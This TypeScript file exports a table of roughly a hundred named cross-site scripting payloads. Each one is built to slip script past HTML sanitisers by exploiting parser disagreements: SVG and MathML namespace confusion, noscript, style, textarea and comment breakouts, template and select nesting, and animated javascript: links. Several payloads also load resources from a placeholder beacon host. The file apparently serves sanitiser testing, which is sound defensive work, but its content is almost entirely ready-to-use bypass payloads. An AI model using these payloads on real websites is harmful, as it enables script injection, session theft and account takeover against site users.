/** Nests on which parsers and sanitisers disagree. `~` is the script of the case. */
export const PARSERS: Readonly<Record<string, string>> = {
  svg: '<svg onload="~"></svg>',
  'svg script': '<svg><script>~</script></svg>',
  'svg script in numbers': '<svg><script>&#115;elf.__xss=1</script></svg>',
  'svg script by address':
    '<svg><script href="data:text/javascript,~"/><script xlink:href="BEACON/s.js"/></svg>',
  'svg script without a name space': '<svg xmlns:s="http://www.w3.org/2000/svg"><s:script>~</s:script></svg>',
  'svg link': '<svg><a xlink:href="javascript:~"><text y=9>x</text></a><a href="java\nscript:~">y</a></svg>',
  'svg animated link':
    '<svg><a><animate attributeName=href values="javascript:~"/><text y=9>x</text></a></svg>',
  'svg animated link in steps':
    '<svg><a xlink:href="#"><animate attributeName="xlink:href" from="#" to="javascript:~" begin=0s fill=freeze /><text y=9>x</text></a></svg>',
  'svg animation begins':
    '<svg><animate onbegin="~" attributeName=x dur=1s /><animateTransform onend="~" dur=1ms /></svg>',
  'svg animated motion':
    '<svg><animateMotion onrepeat="~" repeatCount=2 dur=1ms /><rect width=9 height=9 /></svg>',
  'svg set': '<svg><set attributeName=onmouseover to="~"/></svg>',
  'svg set by address':
    '<svg><a id=u><text y=9>x</text></a><set href="#u" attributeName=href to="javascript:~"/></svg>',
  'svg use':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=~></svg>#x"/></svg>',
  'svg use of elsewhere':
    '<svg><use xlink:href="BEACON/u.svg#x"/><image href="BEACON/i"/><feImage href="BEACON/f"/></svg>',
  'svg paint of elsewhere':
    '<svg><rect fill="url(BEACON/p#x)" filter="url(BEACON/q#x)" width=9 height=9 /></svg>',
  'svg handler element':
    '<svg><handler type="text/javascript" ev:event="load">~</handler><discard onbegin="~"/></svg>',
  'svg foreign object': '<svg><foreignObject><img src=x onerror="~"></foreignObject></svg>',
  'svg foreign frame':
    '<svg><foreignObject><iframe srcdoc="<script>~</script>"></iframe></foreignObject></svg>',
  'svg foreign object in mixed case':
    '<svg><FOREIGNobject><p title="</foreignObject></svg><img src=x onerror=~>">x</p></svg>',
  'svg view and cursor':
    '<svg><view onload="~"/><cursor xlink:href="BEACON/c"/><mpath href="javascript:~"/></svg>',
  'svg style breaker': '<svg></p><style><a title="</style><img src=x onerror=~>"></style></svg>',
  'svg style with entities':
    '<svg><style>&lt;img src=x onerror=~&gt;</style><style>&lt;/style>&lt;script>~</style></svg>',
  'svg title breaker': '<svg><title><style><img src="</style><img src=x onerror=~>"></style></title></svg>',
  'svg description': '<svg><desc><noembed><img src=x onerror="~"></noembed></desc></svg>',
  'svg description with a form':
    '<svg><desc><form><svg><desc></form><a title="</desc></svg><img src=x onerror=~>">',
  'svg with CDATA': '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=~>//"></svg>',
  'svg with CDATA in a style': '<svg><style><![CDATA[</style><img src=x onerror=~>]]></style></svg>',
  'svg with a comment': '<svg><style><!--</style><img src=x onerror=~>--></style></svg>',
  'svg that ends in a break':
    '<svg></br><img src=x onerror=~><p></svg><style></p><img src=x onerror=~></style>',
  'svg in svg': '<svg><p><svg><style><p id="</style></svg></p><img src=x onerror=~>"></style></svg>',
  'svg in a table in a select':
    '<select><svg><table><style><a id="</style><img src=x onerror=~>"></table></svg></select>',
  'svg with a font': '<svg><font color=x><style><a id="</style><img src=x onerror=~>"></style></font></svg>',
  'svg with a template':
    '<svg><template><img src=x onerror="~"></template></svg><template><svg onload="~"></svg></template>',
  'CDATA in html': '<![CDATA[<p>]]><img src=x onerror="~">',
  'CDATA in an attribute':
    '<p title="]]><img src=x onerror=~>"><![CDATA[ <p title="]]><img src=x onerror=~>">',
  'math link': '<math href="javascript:~">x</math><math><mi xlink:href="javascript:~">y</mi></math>',
  'math action': '<math><maction actiontype="statusline#BEACON" xlink:href="javascript:~">x</maction></math>',
  'math handler':
    '<math><mi onmouseover="~" style="background:url(BEACON/m)">x</mi><mspace onload="~"/></math>',
  'math annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror="~"></annotation-xml></math>',
  'math annotation in xhtml':
    '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><a id="</style><img src=x onerror=~>"></annotation-xml>',
  'math annotation without encoding':
    '<math><annotation-xml><style><img src=x onerror=~></style></annotation-xml></math>',
  'math table nest':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=~&gt;">',
  'math table nest with text':
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=~>">',
  'math form nest':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=~></style></mglyph></form>',
  'math malignmark': '<math><mtext><malignmark><svg><style><a id="</style><img src=x onerror=~>"></svg>',
  'math in svg':
    '<svg><desc><math><mi><style><a id="</style><img src=x onerror=~>"></style></mi></math></desc></svg>',
  'math with a paragraph': '<math><p><style><!--</style><img src=x onerror=~>--></style></p></math>',
  'noscript title': '<noscript><p title="</noscript><img src=x onerror=~>"></noscript>',
  'noscript in the head': '<head><noscript><style></noscript><img src=x onerror=~></style></noscript></head>',
  'noscript in a style':
    '<noscript><style><p title="</style></noscript><img src=x onerror=~>"></style></noscript>',
  'noembed breaker': '<noembed><p title="</noembed><img src=x onerror=~>"></noembed>',
  'noframes breaker': '<noframes><p title="</noframes><img src=x onerror=~>"></noframes>',
  'xmp breaker': '<xmp><p title="</xmp><img src=x onerror=~>"></xmp>',
  'xmp in svg': '<svg><xmp><p title="</xmp></svg><img src=x onerror=~>"></xmp></svg>',
  'listing and old ways':
    '<listing>&lt;img src=x onerror=~&gt;</listing><nextid><img src=x onerror=~></nextid>',
  'textarea breaker': '<textarea><p title="</textarea><img src=x onerror=~>"></textarea>',
  'textarea with entities':
    '<textarea>&lt;/textarea&gt;&lt;img src=x onerror=~&gt;</textarea><pre>\n<textarea>\n</pre>',
  'title breaker': '<title><p title="</title><img src=x onerror=~>"></title>',
  'title of the page': '</title></head><body><img src=x onerror=~><title>',
  'style breaker': '<style><p title="</style><img src=x onerror=~>"></style>',
  'style of many ends':
    '<style></sty</style><img src=x onerror=~></style ><style/></style><script>~</script>',
  'style in a template in a select':
    '<select><template><style></template></select><img src=x onerror=~></style>',
  'iframe text breaker': '<iframe><p title="</iframe><img src=x onerror=~>"></iframe>',
  'plaintext breaker': '<p>x</p><plaintext><img src=x onerror="~"></plaintext>',
  'plaintext in a button': '<button><plaintext></button><img src=x onerror=~>',
  'template content': '<template><img src=x onerror="~"><script>~</script></template>',
  'template in a template':
    '<template><template><img src=x onerror=~></template></template></template><img src=x onerror=~>',
  'template shadow': '<div><template shadowrootmode=open><img src=x onerror="~"></template></div>',
  'template shadow by its old name':
    '<div><template shadowroot=closed shadowrootdelegatesfocus><input autofocus onfocus="~"></template></div>',
  'selected content':
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror="~"></option></select>',
  'selected content twice':
    '<select><button><selectedcontent><svg></button><option selected><style><a id="</style><img src=x onerror=~>"></option></select>',
  'select breaker':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=~>">',
  'select with a group':
    '<select><optgroup label="</select><img src=x onerror=~>"><hr><p title="</optgroup></select><script>~</script>">',
  'option breaker': '<select><option><style></option></select><img src=x onerror=~></style>',
  'key generator in a select': '<select><keygen autofocus onfocus=~><input autofocus onfocus=~></select>',
  'comment breaker': '<p title="--><img src=x onerror=~>"><!-- <img title="--><img src=x onerror=~>"> -->',
  'comment that ends early': '<!--!--><img src=x onerror=~>--><!-- --!><img src=x onerror=~> -->',
  'comment in a comment': '<!-- <!-- --><img src=x onerror=~> --><!--<!--><img src=x onerror=~>',
  'comment without an end': '<p>x</p><!-- <img title="--!><img src=x onerror=~>',
  'processing instruction with markup': '<?x <img src=x onerror=~> ?><?php echo "><img src=x onerror=~>" ?>',
  'style sheet by instruction': '<?xml-stylesheet href="javascript:~" type="text/xsl"?><p>x</p>',
  'xml island':
    '<xml id=i><a b="&lt;img src=x onerror=~&gt;"></a></xml><span datasrc=#i datafld=b dataformatas=html></span>',
  'table foster parenting': '<table><img src=x onerror="~"><tr><script>~</script></table>',
  'table in a table': '<table><td><table><style><a title="</style><img src=x onerror=~>"></table></table>',
  'table column breaker':
    '<table><colgroup><template><img src=x onerror=~></template><caption><img src=x onerror=~>',
  'nested links': '<a href="https://example.com/"><table><a href="javascript:~">x</a></table></a>',
  'nested forms': '<form><div></form><form><img src=x onerror="~"><input name=nodeName></form></div>',
  'nested headings': '<h1><a href="javascript:~"><h2><a href="javascript:~">x</h1></a></h2>',
  'nested buttons': '<button><p><button onclick="~"><img src=x onerror=~></p></button></button>',
  'mis-nested formatting': '<b><i><p></b><a href="javascript:~"></i><b></p><img src=x onerror=~></a>',
  'pre line ends': '<pre>\n\n<textarea>\n</textarea><img src=x onerror="~"></pre>',
  'ruby and its parts': '<ruby><rb>x<rtc><rp><img src=x onerror="~"></rp><rt><script>~</script></rt></ruby>',
  'menu and items':
    '<menu type=context><menuitem onclick="~" icon="javascript:~">x<command onclick=~></menu>',
  'end tags that open':
    '</p><img src=x onerror=~></br></p></script></style></title></textarea><script>~</script>',
};
